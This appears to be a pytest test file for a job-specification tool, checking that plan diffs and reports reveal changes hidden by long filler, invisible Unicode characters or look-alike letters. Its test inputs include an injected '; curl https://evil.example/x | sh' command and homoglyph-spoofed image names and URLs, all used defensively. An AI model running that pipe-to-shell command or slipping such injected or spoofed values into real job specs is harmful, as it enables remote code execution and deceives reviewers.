"""What a reviewer sees is what is there: nothing hides by length, by look-alike characters, or by markup."""

# ruff: noqa: RUF001 - look-alikes are what is tested here
from __future__ import annotations

import json
import re
from datetime import timedelta
from typing import TYPE_CHECKING, Any

import pytest

from jobspec.deceptive import deceptive_places
from jobspec.report.plan import markdown as plan_markdown
from jobspec.report.plan import text as plan_text
from jobspec.report.plan.difference import difference
from jobspec.report.plan.view import ChangeView, DifferenceView, GuardView, NewRunView, PlanView, RunView
from jobspec.report.text import printable
from jobspec.report.view import PlatformView
from tests.proof.trust.repository import TASK
from tests.reconcile.world import EPOCH

if TYPE_CHECKING:
    from tests.projects import Project

NOW = EPOCH + timedelta(hours=2)
EVIL = "; curl https://evil.example/x | sh"
FILLER = " ".join(f"--option-{number} {number}" for number in range(60))
HIDDEN = (
    "\u200d",
    "\u034f",
    "\u3164",
    "\ufe0f",
    "\U000e0101",
    "\u2800",
    "\u115f",
    "\u200b",
    "\u00ad",
    "\u2066",
)


def change(task: str = "train", action: str = "replace", **fields: Any) -> ChangeView:
    return ChangeView(**{"task": task, "action": action, "reason": "spec-changed", **fields})


def plan(*changes: ChangeView, **fields: Any) -> PlanView:
    platform = PlatformView(kind="local", endpoint="/state")
    return PlanView(scope="demo", platform=platform, changes=changes, summary={}, **fields)


def markdown(view: PlanView) -> str:
    return plan_markdown.render(view, now=NOW)


def changed(before: object, after: object, field: str = "spec.args") -> DifferenceView:
    return DifferenceView(field=field, before=before, after=after)


@pytest.mark.parametrize("filler", [FILLER, FILLER * 3, FILLER * 20, "x" * 400, "x," * 3000])
def test_a_late_change_is_shown_beside_an_early_one(filler: str) -> None:
    found = changed(f"--lr 0.1 {filler} --end", f"--lr 0.2 {filler}{EVIL} --end")
    said = difference(found)
    assert EVIL in said
    assert "0.1" in said
    assert "0.2" in said
    assert len(said) < 2500
    for text in (plan_text.render(plan(change(differences=(found,))), now=NOW, colour=False),):
        assert EVIL in text
    assert EVIL in markdown(plan(change(differences=(found,))))


def test_what_is_removed_late_is_shown_too() -> None:
    said = difference(changed(f"--lr 0.1 {FILLER} --safe", f"--lr 0.2 {FILLER}"))
    assert "--safe" in said
    assert "option-30 " not in said  # what is equal between is left out


def test_what_does_not_fit_of_a_change_is_counted() -> None:
    said = difference(changed("--lr 0.1 " + "a " * 50, "--lr 0.2 " + "b " * 5000 + EVIL))
    assert EVIL in said
    assert re.search(r"…\([\d,]+ characters more\)…", said)
    equal = [" ".join(f"same-{number}-{word}" for word in range(9)) for number in range(40)]
    many = difference(changed(" a ".join(equal), " b ".join(equal)))
    assert "(23 more changed parts)" in many
    assert len(many) < 5000


def test_a_new_command_is_shown_from_its_beginning_to_its_end() -> None:
    command = f"python {FILLER[:500]}{EVIL} {FILLER[500:]} --end"
    run = NewRunView(image="i", command=command, roles=(), queue="q", deadline_seconds=60)
    shown = plan_text.render(plan(change(action="submit", new_run=run)), now=NOW, colour=False)
    assert command in shown


def test_values_too_long_to_compare_are_not_compared(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delattr("jobspec.report.plan.difference.SequenceMatcher")
    said = difference(changed("x " + "a b " * 20_000 + "y", "z " + "b a " * 20_000 + "w"))
    assert "characters more" in said


LONG = {
    "a field": change("first", differences=(changed("a", "b", "spec.env." + "K" * 200_000),)),
    "a value": change("first", differences=(changed("a" * 200_000, "b" * 200_000),)),
    "backticks": change("first", differences=(changed("`" * 100_000, "a` " * 60_000),)),
    "a name": change("`" * 100_000),
    "a file": change("first", file="/".join(["d" * 200] * 500), line=1),
    "a reason": change("first", detail="why " * 50_000),
    "many fields": change(
        "first", differences=tuple(changed("a", "b" * 900, f"spec.env.K{n}") for n in range(60))
    ),
    "a run": change(
        "first",
        runs=(
            RunView(
                id="t-" + "`" * 90_000,
                state="Running",
                phase="pending",
                launched=None,
                replicas=1,
                stops=True,
            ),
        ),
    ),
}


@pytest.mark.parametrize("long", LONG.values(), ids=LONG.keys())
def test_no_change_however_long_pushes_another_out_of_the_markdown(long: ChangeView) -> None:
    others = [change(f"other-{n}", "cancel", reason="removed") for n in range(100)]
    shown = markdown(plan(*[long] * 3, *others, change("late", differences=(changed("a", EVIL),))))
    assert len(shown) <= plan_markdown.LIMIT
    assert all(f"**cancel** `other-{n}`" in shown for n in range(100))
    assert EVIL in shown


def test_what_stops_a_run_is_shown_before_what_submits_one() -> None:
    submits = [change(f"new-{n}", "submit", reason="new", detail="x" * 250) for n in range(2000)]
    looks = [change(f"look-{n}", "none", attention=True, reason="failed") for n in range(2000)]
    stops = [change(f"stop-{n}", action) for n, action in enumerate(("cancel", "delete", "replace") * 30)]
    shown = markdown(plan(*looks, *submits, *stops))
    assert len(shown) <= plan_markdown.LIMIT
    assert all(f"`{one.task}`" in shown for one in stops)
    assert re.search(r"changes not shown: 2000 review, \d+ submit …", shown)


@pytest.mark.long
@pytest.mark.parametrize(("number", "all_named"), [(150, True), (400, True), (3000, False)])
def test_what_stops_a_run_is_named_before_anything_else_is_left_out(number: int, *, all_named: bool) -> None:
    stops = [
        change(f"stop-{n}", "cancel", reason="removed", detail="`" * 500 + "x" * 500) for n in range(number)
    ]
    shown = markdown(plan(change("new", "submit", reason="new"), *stops))
    assert len(shown) <= plan_markdown.LIMIT
    assert all(f"**cancel** `{one.task}`" in shown for one in stops) is all_named
    if not all_named:
        assert re.search(r"changes not shown: 1 submit, \d+ cancel", shown[:1000])


def test_guards_do_not_push_the_changes_out() -> None:
    guards = [GuardView(code="JS404", guard="protect", message="`" * 5000, help="x" * 9000)] * 500
    shown = markdown(plan(change("gone", "cancel"), guards=tuple(guards)))
    assert len(shown) <= plan_markdown.LIMIT
    assert "**cancel** `gone`" in shown
    assert "… 480 more refused …" in shown


@pytest.mark.parametrize("character", HIDDEN, ids=ascii)
def test_a_character_that_does_not_show_is_an_escape_in_every_form(character: str) -> None:
    view = plan(
        change(f"tr{character}ain", differences=(changed("a", f"b{character}c", f"spec.env.K{character}"),))
    )
    escaped = f"\\u{ord(character):04x}" if ord(character) < 0x10000 else f"\\U{ord(character):08x}"
    text = plan_text.render(view, now=NOW, colour=False)
    document = view.to_json()
    for shown in (text, markdown(view)):
        assert character not in shown
        assert shown.count(escaped) >= 3
    assert character not in document
    assert json.loads(document)["changes"][0]["task"] == f"tr{character}ain"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("ml/pyth\u043en:3", "ml/pyth\\u043en:3"),
        ("https://\u0435\u0443\u0435.com", "https://\\u0435\\u0443\\u0435.com"),
        ("\u0441\u0443\u0440", "\\u0441\\u0443\\u0440"),
        ("\u0410100", "\\u0410100"),
        ("github.com\u2215evil", "github.com\\u2215evil"),
        ("\U0001d41c\U0001d42erl", "\\U0001d41c\\U0001d42erl"),
        ("docker.io\uff0fevil", "docker.io\\uff0fevil"),
        ("user\uff20host", "user\\uff20host"),
        ("example\u3002com", "example\\u3002com"),
        ("python\u2010slim", "python\\u2010slim"),
        ("p\uff59thon", "p\\uff59thon"),
        ("tr\u03b1in", "tr\\u03b1in"),
        ("tr\u0430in\u043f", "tr\\u0430in\u043f"),
    ],
)
def test_a_look_alike_inside_of_a_word_is_an_escape(text: str, shown: str) -> None:
    assert printable(text) == shown


@pytest.mark.parametrize(
    "text",
    [
        "Привет, мир",
        "обучение модели у нас",
        "训练 GPU模型：bert",
        "モデルＡ",
        "café naïve",
        "μm",
        "don’t 1–2 h",
        "🎉",
        "α и β",
    ],
)
def test_honest_text_of_any_script_is_left_alone(text: str) -> None:
    assert (deceptive_places(text), printable(text)) == ({}, text)


DECEPTIVE = {
    "image": TASK.replace("python:3.11", "pyth\u043en:3.11"),
    "entrypoint": TASK.replace('"true"', '"true\u200b"'),
    "args": TASK.replace("  roles:", '  args: "a\\u3164b"\n  roles:'),
    "flavor": TASK.replace("ml.g1e", "ml.g1\u0435"),
}


@pytest.mark.parametrize("field", DECEPTIVE)
def test_a_manifest_that_deceives_gets_a_warning_and_no_more(repository: Project, field: str) -> None:
    repository.write("tasks/train.yaml", DECEPTIVE[field])
    ended = repository.attempt("validate", "--format", "json")
    document = json.loads(ended.out)
    [found] = document["diagnostics"]
    assert (found["code"], found["severity"], ended.code) == ("JS122", "warning", 0)
    assert f"`{field}`" in found["message"]
    assert not any(deceptive_places(line) for line in ended.printed.splitlines())


def test_honest_text_in_a_manifest_is_no_warning(repository: Project) -> None:
    described = '{name: train, description: "обучение 训练 👨\u200d👩 ❤\ufe0f pyth\u043en"}'
    task = TASK.replace("{name: train}", described)
    repository.write(
        "tasks/train.yaml", task + '  env: {PROMPT: "Привет 👨\u200d👩"}\n  args: --prompt Привет\n'
    )
    ended = repository.attempt("validate")
    assert (ended.code, ended.out) == (0, "")


def test_a_file_name_does_not_hide_either(repository: Project) -> None:
    repository.write("tasks/tr\u0430in\u200b.yaml", "kind: [\n")
    for form in ("json", "github", "concise", "full"):
        ended = repository.attempt("validate", "--format", form)
        assert ended.code == 1
        assert "tr\\u0430in\\u200b.yaml" in ended.out
        assert not any(deceptive_places(line) for line in ended.printed.splitlines())
